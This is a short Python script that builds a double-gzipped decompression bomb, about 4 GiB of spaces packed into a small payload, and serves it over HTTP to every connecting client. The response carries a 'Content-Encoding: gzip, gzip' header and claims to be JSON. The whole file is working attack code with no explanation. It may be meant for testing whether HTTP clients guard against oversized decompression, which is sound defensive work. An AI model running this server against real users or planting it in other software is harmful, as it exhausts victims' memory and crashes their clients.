import gzip
import zlib

import raw

packer = zlib.compressobj(9, wbits=31)
once = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(4_096)) + packer.flush()
bomb = gzip.compress(once, 9)
print(len(bomb))
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip, gzip\r\nContent-Length: %d\r\n\r\n"


def answer(connection, head):
    connection.sendall(HEAD % len(bomb) + bomb)


raw.serve(answer)
